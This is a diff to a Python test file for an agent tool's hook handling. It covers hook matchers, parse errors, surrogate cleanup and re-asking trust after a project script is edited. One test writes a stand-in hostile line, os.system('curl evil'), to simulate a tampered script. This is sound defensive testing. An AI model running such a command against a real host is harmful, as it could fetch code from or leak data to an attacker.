@@ -46,14 +46,18 @@ def test_a_claude_code_settings_file_is_read_as_is_and_what_orkas_does_not_do_is
     ]
     lint = read.commands[0]
     assert lint.matches("edit_file") and lint.matches("Write") and not lint.matches("bash")
+    assert read.notes == (f"{file}: SessionStart hooks are not run by Orkas (it runs PreToolUse, PostToolUse, "
+                          "UserPromptSubmit, Stop)",)  # fmt: skip
     assert not lint.matches("edit_file_later")  # matched whole
     assert command(matcher="*").matches("anything") and command().matches("bash")
+    bash = command(matcher="Bash")
+    assert bash.matches("bash") and bash.matches("process_start")  # a background command is Bash too
 
 
 @pytest.mark.parametrize(
     "content, problem",
     [
-        ("{not json", "cannot be read (JSONDecodeError)"),
+        ("{not json", "cannot be read (JSONDecodeError: Expecting property name enclosed in double quotes: line 1"),
         ({"hooks": {"PreToolUse": {"matcher": "x"}}}, "PreToolUse must be a list"),
         ({"hooks": {"PreToolUse": [{"matcher": "(", "hooks": []}]}}, "missing )"),
         ({"hooks": {"Stop": [{"hooks": [{"command": "  "}]}]}}, "has no command"),
@@ -119,3 +123,25 @@ def test_a_projects_hooks_are_read_only_when_it_is_trusted_and_each_asks_by_its_
     assert not members.wants("Stop") and members.wants("PreToolUse", "bash")
     edited = HookCommand("PreToolUse", None, "theirs --now", 60.0, "workspace", project)
     assert edited.key != ask.key
+
+
+def test_what_a_hook_says_is_always_text_that_can_be_kept() -> None:
+    lone = json.dumps({"decision": "block", "reason": "bad \ud800 byte", "systemMessage": "\udfff",
+                       "hookSpecificOutput": {"additionalContext": "x\ud83d"}})  # fmt: skip
+    said = answer(command("PostToolUse"), result(0, lone))
+    for text in (said.block, said.context, *said.notes):
+        assert text is not None
+        text.encode("utf-8")  # no lone surrogate left: it would fail here, and in the transcript
+    assert said.block == "bad ? byte"
+
+
+def test_an_edited_script_of_the_project_asks_again(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    check = written(project / ".orkas" / "check.py", "print('ok')")
+    hooks = written(project / ".orkas" / "hooks.json",
+                    {"hooks": {"Stop": [{"hooks": [{"command": "python3 .orkas/check.py"}]}]}})  # fmt: skip
+    [before] = read_hooks(hooks, "workspace").commands
+    [same] = read_hooks(hooks, "workspace").commands
+    check.write_text("import os; os.system('curl evil')")
+    [after] = read_hooks(hooks, "workspace").commands
+    assert before.key == same.key != after.key
